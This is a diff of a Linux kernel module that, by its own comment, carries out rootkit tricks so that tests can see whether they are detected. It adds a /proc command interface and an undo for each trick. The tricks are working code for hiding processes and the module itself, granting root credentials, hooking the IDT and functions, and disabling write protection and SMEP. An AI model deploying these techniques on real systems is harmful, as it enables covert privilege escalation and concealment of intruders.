@@ -1,17 +1,20 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * What rootkits do, one trick at a time, so that tests can see whether it is found: loaded as
+ * What rootkits do, one trick at a time, so that tests can see whether it is found. Loaded, it does
+ * nothing but to make /proc/iho-rootkit, which takes lines of
  *
- *	load rootkit.ko do=TRICK [pid=PID] [at=ADDRESS] [to=ADDRESS] [hide=N]
+ *	TRICK PID AT TO		a trick; numbers are decimal, addresses hexadecimal, 0 = not needed
+ *	undo 0 0 0		all is as it was before the trick
  *
  * It is built against the types of the very kernel that it is for (vmlinux.h, made from the
- *kernel's BTF), without that kernel's headers: there are none for kernels that a distribution no
- *longer has. Nothing of it runs later, but for hooks of functions that the tests call: what is
- *patched otherwise is not executed. It has no way back: the guest ends with the test.
+ * kernel's BTF), without that kernel's headers: there are none for kernels that a distribution no
+ * longer has. Nothing of it runs later, but for hooks of functions that the tests call: what is
+ * patched otherwise is not executed.
  */
 #include "vmlinux.h"
 
 #define ENOENT	 2
+#define EBUSY	 16
 #define EINVAL	 22
 #define CR0_WP	 (1ul << 16)
 #define HOOK_LEN 5
@@ -28,34 +31,28 @@ struct module __this_module section(".gnu.linkonce.this_module") __attribute__((
 	.init = start,
 };
 
-extern const struct kernel_param_ops param_ops_ulong, param_ops_charp;
-
-static char *trick;
-static unsigned long pid, at, to, hide;
-
-#define PARAM(name_, ops_, variable)                                                               \
-	static const struct kernel_param param_##name_ section("__param")                          \
-		__attribute__((aligned(sizeof(void *)))) = { .name = #name_,                       \
-							     .mod = &__this_module,                \
-							     .ops = &(ops_),                       \
-							     .level = -1,                          \
-							     .arg = &(variable) }
-
-PARAM(do, param_ops_charp, trick);
-PARAM(pid, param_ops_ulong, pid);
-PARAM(at, param_ops_ulong, at);
-PARAM(to, param_ops_ulong, to);
-PARAM(hide, param_ops_ulong, hide);
+/* Of the trick */
+static unsigned long pid, at, to;
 
 extern int strcmp(const char *a, const char *b);
+extern int sscanf(const char *from, const char *format, ...);
+extern long strncpy_from_user(char *out, const char *from, long n);
+extern struct proc_dir_entry *proc_create(const char *name, unsigned short mode,
+					  struct proc_dir_entry *parent,
+					  const struct proc_ops *ops);
 extern struct pid *find_vpid(int nr);
 extern struct task_struct *pid_task(struct pid *pid, enum pid_type type);
-extern void *idr_remove(struct idr *idr, unsigned long id);
+extern void *idr_replace(struct idr *idr, void *p, unsigned long id);
 extern struct pid_namespace init_pid_ns;
+extern struct task_struct init_task;
 extern void kobject_del(struct kobject *kobj);
+extern int kobject_add(struct kobject *kobj, struct kobject *parent, const char *format, ...);
 extern void rb_erase(struct rb_node *node, struct rb_root *root);
+extern void rb_insert_color(struct rb_node *node, struct rb_root *root);
 extern int register_kprobe(struct kprobe *p);
+extern void unregister_kprobe(struct kprobe *p);
 extern int register_ftrace_function(struct ftrace_ops *ops);
+extern int unregister_ftrace_function(struct ftrace_ops *ops);
 extern int ftrace_set_filter_ip(struct ftrace_ops *ops, unsigned long ip, int remove, int reset);
 
 /* Write protection does not hold the kernel back when CR0.WP is off. */
@@ -68,7 +65,7 @@ static void protect(bool on)
 	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
 }
 
-static void poke(unsigned long where, const void *what, unsigned long n)
+static void write_over(unsigned long where, const void *what, unsigned long n)
 {
 	volatile char *p = (volatile char *)where;
 	const char *q = what;
@@ -82,11 +79,39 @@ static void poke(unsigned long where, const void *what, unsigned long n)
 	asm volatile("push %0; popf" : : "rm"(flags) : "memory", "cc");
 }
 
+/* What was there before */
+static struct {
+	unsigned long where, n;
+	unsigned char bytes[16];
+} saved;
+
+static void poke(unsigned long where, const void *what, unsigned long n)
+{
+	saved.where = where;
+	saved.n = n;
+	__builtin_memcpy(saved.bytes, (void *)where, n);
+	write_over(where, what, n);
+}
+
+static void unpoke(void)
+{
+	write_over(saved.where, saved.bytes, saved.n);
+}
+
 static void unlink(struct list_head *entry)
 {
 	entry->next->prev = entry->prev;
 	entry->prev->next = entry->next;
 	entry->next = entry->prev = entry;
+}
+
+/* As the last one of that list */
+static void link(struct list_head *entry, struct list_head *head)
+{
+	entry->next = head;
+	entry->prev = head->prev;
+	head->prev->next = entry;
+	head->prev = entry;
 }
 
 /* What hooks lead to. */
@@ -106,71 +131,114 @@ static void aim(unsigned long where, unsigned char opcode)
 
 /* ---- tasks ---- */
 
-static struct task_struct *task(void)
+static struct task_struct *victim;
+static struct pid *number;
+
+/* Kept for undoing, when its number finds it no more */
+static int find_victim(void)
 {
-	return pid_task(find_vpid((int)pid), PIDTYPE_PID);
+	number = find_vpid((int)pid);
+	victim = pid_task(number, PIDTYPE_PID);
+	return victim ? 0 : -ENOENT;
+}
+
+/* Its place stays taken, so that nobody else gets the number */
+static void leave_numbers(void)
+{
+	idr_replace(&init_pid_ns.idr, 0, pid);
 }
 
 /* Out of the list of processes: /proc shows it still, what walks the list does not. */
 static int task_list(void)
 {
-	struct task_struct *t = task();
-
-	if (!t)
+	if (find_victim())
 		return -ENOENT;
-	unlink(&t->tasks);
+	unlink(&victim->tasks);
 	return 0;
+}
+
+static void list_again(void)
+{
+	link(&victim->tasks, &init_task.tasks);
 }
 
 /* Out of the numbers: it cannot be signalled, and is not in /proc. */
 static int task_pid(void)
 {
-	if (!task())
+	if (find_victim())
 		return -ENOENT;
-	idr_remove(&init_pid_ns.idr, pid);
+	leave_numbers();
 	return 0;
+}
+
+static void pid_again(void)
+{
+	idr_replace(&init_pid_ns.idr, number, number->numbers[0].nr);
 }
 
 static int task_tree(void)
 {
-	struct task_struct *t = task();
-
-	if (!t)
+	if (find_victim())
 		return -ENOENT;
-	unlink(&t->sibling);
+	unlink(&victim->sibling);
 	return 0;
+}
+
+static void tree_again(void)
+{
+	link(&victim->sibling, &victim->real_parent->children);
 }
 
 /* Out of all three, as diligent ones do; it sleeps or runs on. */
 static int task_all(void)
 {
-	struct task_struct *t = task();
-
-	if (!t)
+	if (find_victim())
 		return -ENOENT;
-	unlink(&t->tasks);
-	unlink(&t->sibling);
-	idr_remove(&init_pid_ns.idr, pid);
+	unlink(&victim->tasks);
+	unlink(&victim->sibling);
+	leave_numbers();
 	return 0;
 }
+
+static void all_again(void)
+{
+	list_again();
+	tree_again();
+	pid_again();
+}
+
+static const struct cred *own;
 
 /* The rights of the kernel's first thread; at: init_cred. */
 static int cred(void)
 {
-	struct task_struct *t = task();
-
-	if (!t || !at)
+	if (find_victim() || !at)
 		return -ENOENT;
-	*(const struct cred **)&t->real_cred = (const struct cred *)at;
-	*(const struct cred **)&t->cred = (const struct cred *)at;
+	own = victim->cred;
+	*(const struct cred **)&victim->real_cred = (const struct cred *)at;
+	*(const struct cred **)&victim->cred = (const struct cred *)at;
 	return 0;
+}
+
+static void cred_again(void)
+{
+	*(const struct cred **)&victim->real_cred = own;
+	*(const struct cred **)&victim->cred = own;
 }
 
 /* ---- itself ---- */
 
+static struct list_head *before;
+
 static void leave_list(void)
 {
+	before = __this_module.list.prev;
 	unlink(&__this_module.list);
+}
+
+static void list_itself(void)
+{
+	link(&__this_module.list, before->next);
 }
 
 static void leave_sysfs(void)
@@ -178,45 +246,123 @@ static void leave_sysfs(void)
 	kobject_del(&__this_module.mkobj.kobj);
 }
 
-/* at: mod_tree. A latch tree is two trees. */
+/* at: mod_tree. A latch tree is two trees, sorted by the address of the memory. */
+#ifdef HAS_MODULE_MEM
+#define AREAS	(sizeof(__this_module.mem) / sizeof(__this_module.mem[0]))
+#define AREA(i) (&__this_module.mem[i])
+typedef struct module_memory area_t;
+#else
+#define AREAS	1u
+#define AREA(i) (&__this_module.core_layout)
+typedef struct module_layout area_t;
+#endif
+
+static struct mod_tree_root *mod_tree;
+
 static void leave_tree(void)
 {
-	struct rb_root *tree = ((struct mod_tree_root *)at)->root.tree;
-	unsigned int i;
-#ifdef HAS_MODULE_MEM
-	for (i = 0; i < sizeof(__this_module.mem) / sizeof(__this_module.mem[0]); i++) {
-		struct mod_tree_node *n = &__this_module.mem[i].mtn;
+	unsigned int i, k;
 
-		if (!__this_module.mem[i].size)
-			continue;
-		rb_erase(&n->node.node[0], &tree[0]);
-		rb_erase(&n->node.node[1], &tree[1]);
+	mod_tree = (struct mod_tree_root *)at;
+	for (i = 0; i < AREAS; i++) {
+		for (k = 0; AREA(i)->size && k < 2; k++)
+			rb_erase(&AREA(i)->mtn.node.node[k], &mod_tree->root.tree[k]);
 	}
-#else
-	struct mod_tree_node *n = &__this_module.core_layout.mtn;
-
-	for (i = 0; i < 2; i++)
-		rb_erase(&n->node.node[i], &tree[i]);
-#endif
 }
 
-/* hide: 1 = the list, 2 = and /sys/module, 3 = and the tree, 4 = and its struct module's own traces
- */
-static void hide_itself(void)
+/* The memory that a node of the k'th tree stands for */
+static unsigned long base_of(struct rb_node *n, unsigned int k)
 {
-	if (hide >= 1)
-		leave_list();
-	if (hide >= 2)
-		leave_sysfs();
-	if (hide >= 3)
-		leave_tree();
-	if (hide >= 4)
-		__this_module.mkobj.mod = 0;
+	return (unsigned long)((area_t *)((char *)n - __builtin_offsetof(area_t, mtn.node.node[0]) -
+					  k * sizeof(*n)))
+		->base;
 }
 
+static void insert(struct rb_node *n, unsigned int k)
+{
+	struct rb_root *root = &mod_tree->root.tree[k];
+	struct rb_node **at = &root->rb_node, *parent = 0;
+
+	while (*at) {
+		parent = *at;
+		at = base_of(n, k) < base_of(parent, k) ? &parent->rb_left : &parent->rb_right;
+	}
+	n->__rb_parent_color = (unsigned long)parent;
+	n->rb_left = n->rb_right = 0;
+	*at = n;
+	rb_insert_color(n, root);
+}
+
+static void enter_tree(void)
+{
+	unsigned int i, k;
+
+	for (i = 0; i < AREAS; i++) {
+		for (k = 0; AREA(i)->size && k < 2; k++)
+			insert(&AREA(i)->mtn.node.node[k], k);
+	}
+}
+
+static int hide_list(void)
+{
+	leave_list();
+	return 0;
+}
+
+static int hide_sysfs(void)
+{
+	leave_sysfs();
+	return 0;
+}
+
+static void show_sysfs(void)
+{
+	kobject_add(&__this_module.mkobj.kobj, 0, "rootkit");
+}
+
+static int hide_tree(void)
+{
+	leave_tree();
+	return 0;
+}
+
+static int hide_all(void)
+{
+	leave_list();
+	leave_sysfs();
+	leave_tree();
+	return 0;
+}
+
+static void show_all(void)
+{
+	enter_tree();
+	show_sysfs();
+	list_itself();
+}
+
+/* Out of all, and nothing tells any more that its memory holds a struct module */
+static int hide_traces(void)
+{
+	hide_all();
+	__this_module.mkobj.mod = 0;
+	return 0;
+}
+
+static void show_traces(void)
+{
+	__this_module.mkobj.mod = &__this_module;
+	show_all();
+}
+
+/* Loaded, and hidden from nobody */
 static int nothing(void)
 {
 	return 0;
+}
+
+static void nothing_again(void)
+{
 }
 
 /* ---- tables ---- */
@@ -234,12 +380,13 @@ static int word(void)
 static int gate(void)
 {
 	unsigned long v = to ? to : (unsigned long)hooked;
-	unsigned short low = v & 0xffff, middle = v >> 16 & 0xffff;
-	unsigned int high = v >> 32;
+	unsigned char g[16];
 
-	poke(at, &low, 2);
-	poke(at + 6, &middle, 2);
-	poke(at + 8, &high, 4);
+	__builtin_memcpy(g, (void *)at, sizeof(g));
+	*(unsigned short *)g = v & 0xffff;
+	*(unsigned short *)(g + 6) = v >> 16 & 0xffff;
+	*(unsigned int *)(g + 8) = v >> 32;
+	poke(at, g, sizeof(g));
 	return 0;
 }
 
@@ -335,6 +482,11 @@ static int ftrace(void)
 	return err ? err : register_ftrace_function(&ops);
 }
 
+static void unftrace(void)
+{
+	unregister_ftrace_function(&ops);
+}
+
 static int handler(struct kprobe *p, struct pt_regs *regs)
 {
 	return 0;
@@ -348,7 +500,31 @@ static int kprobe(void)
 	return register_kprobe(&probe);
 }
 
-/* ---- registers ---- */
+/* It hangs on no list of the kernel's any more, but is otherwise as it was */
+static void unkprobe(void)
+{
+	unregister_kprobe(&probe);
+	__builtin_memset(&probe, 0, sizeof(probe));
+	probe.pre_handler = handler;
+}
+
+/* The same of a module that is in no list: nobody knows whose code is called */
+static int kprobe_hidden(void)
+{
+	int err = kprobe();
+
+	if (!err)
+		leave_list();
+	return err;
+}
+
+static void unkprobe_hidden(void)
+{
+	list_itself();
+	unkprobe();
+}
+
+/* ---- registers, of the CPU that the writer runs on ---- */
 
 static int write_protect(void)
 {
@@ -356,67 +532,132 @@ static int write_protect(void)
 	return 0;
 }
 
+static void protect_again(void)
+{
+	protect(true);
+}
+
+static unsigned long cr4;
+
 static int smep(void)
 {
-	unsigned long cr4;
-
 	asm volatile("mov %%cr4, %0" : "=r"(cr4));
 	asm volatile("mov %0, %%cr4" : : "r"(cr4 & ~(3ul << 20)));
 	return 0;
 }
 
-/* at: idt_table, of which each CPU that does this gets a copy */
+static void smep_again(void)
+{
+	asm volatile("mov %0, %%cr4" : : "r"(cr4));
+}
+
+struct table {
+	unsigned short limit;
+	unsigned long base;
+} __attribute__((packed));
+
+static struct table idt;
+
+/* at: idt_table, of which this CPU gets a copy */
 static int idtr(void)
 {
 	static unsigned char copy[4096] __attribute__((aligned(4096)));
-	struct {
-		unsigned short limit;
-		unsigned long base;
-	} __attribute__((packed)) desc = { sizeof(copy) - 1, (unsigned long)copy };
+	struct table desc = { sizeof(copy) - 1, (unsigned long)copy };
 
+	asm volatile("sidt %0" : "=m"(idt));
 	__builtin_memcpy(copy, (void *)at, sizeof(copy));
 	asm volatile("lidt %0" : : "m"(desc));
 	return 0;
 }
 
-static const struct {
+static void idtr_again(void)
+{
+	asm volatile("lidt %0" : : "m"(idt));
+}
+
+/* ---- the door ---- */
+
+struct trick {
 	const char *name;
 	int (*run)(void);
-} tricks[] = {
-	{ "nothing", nothing },
-	{ "task_list", task_list },
-	{ "task_pid", task_pid },
-	{ "task_tree", task_tree },
-	{ "task_all", task_all },
-	{ "cred", cred },
-	{ "word", word },
-	{ "gate", gate },
-	{ "jump", jump },
-	{ "movabs", movabs },
-	{ "push", push },
-	{ "breakpoint", breakpoint },
-	{ "leaf", leaf },
-	{ "bytes", bytes },
-	{ "ftrace", ftrace },
-	{ "kprobe", kprobe },
-	{ "write_protect", write_protect },
-	{ "smep", smep },
-	{ "idtr", idtr },
+	void (*undo)(void);
 };
 
-static int start(void)
+static const struct trick tricks[] = {
+	{ "nothing", nothing, nothing_again },
+	{ "task_list", task_list, list_again },
+	{ "task_pid", task_pid, pid_again },
+	{ "task_tree", task_tree, tree_again },
+	{ "task_all", task_all, all_again },
+	{ "cred", cred, cred_again },
+	{ "hide_list", hide_list, list_itself },
+	{ "hide_sysfs", hide_sysfs, show_sysfs },
+	{ "hide_tree", hide_tree, enter_tree },
+	{ "hide_all", hide_all, show_all },
+	{ "hide_traces", hide_traces, show_traces },
+	{ "word", word, unpoke },
+	{ "gate", gate, unpoke },
+	{ "jump", jump, unpoke },
+	{ "movabs", movabs, unpoke },
+	{ "push", push, unpoke },
+	{ "breakpoint", breakpoint, unpoke },
+	{ "leaf", leaf, unpoke },
+	{ "bytes", bytes, unpoke },
+	{ "ftrace", ftrace, unftrace },
+	{ "kprobe", kprobe, unkprobe },
+	{ "kprobe_hidden", kprobe_hidden, unkprobe_hidden },
+	{ "write_protect", write_protect, protect_again },
+	{ "smep", smep, smep_again },
+	{ "idtr", idtr, idtr_again },
+};
+
+static const struct trick *done;
+
+static int run(const char *name)
 {
 	unsigned int i;
+	int err;
 
-	for (i = 0; trick && i < sizeof(tricks) / sizeof(tricks[0]); i++) {
-		int err;
-
-		if (strcmp(trick, tricks[i].name))
+	if (!strcmp(name, "undo")) {
+		if (!done)
+			return -ENOENT;
+		done->undo();
+		done = 0;
+		return 0;
+	}
+	if (done)
+		return -EBUSY;
+	for (i = 0; i < sizeof(tricks) / sizeof(tricks[0]); i++) {
+		if (strcmp(name, tricks[i].name))
 			continue;
 		err = tricks[i].run();
-		if (!err)
-			hide_itself();
+		done = err ? 0 : &tricks[i];
 		return err;
 	}
 	return -EINVAL;
+}
+
+static ssize_t door(struct file *file, const char *from, size_t n, loff_t *pos)
+{
+	char line[128], name[16];
+	long got;
+	int err;
+
+	if (n >= sizeof(line))
+		return -EINVAL;
+	got = strncpy_from_user(line, from, (long)n);
+	if (got < 0)
+		return got;
+	line[got] = 0;
+	if (sscanf(line, "%15s %lu %lx %lx", name, &pid, &at, &to) != 4)
+		return -EINVAL;
+	err = run(name);
+	return err ? err : (ssize_t)n;
+}
+
+static const struct proc_ops door_ops = { .proc_write = door };
+
+static int start(void)
+{
+	return proc_create("iho-rootkit", 0200, 0, &door_ops) ? 0 : -EINVAL;
 }
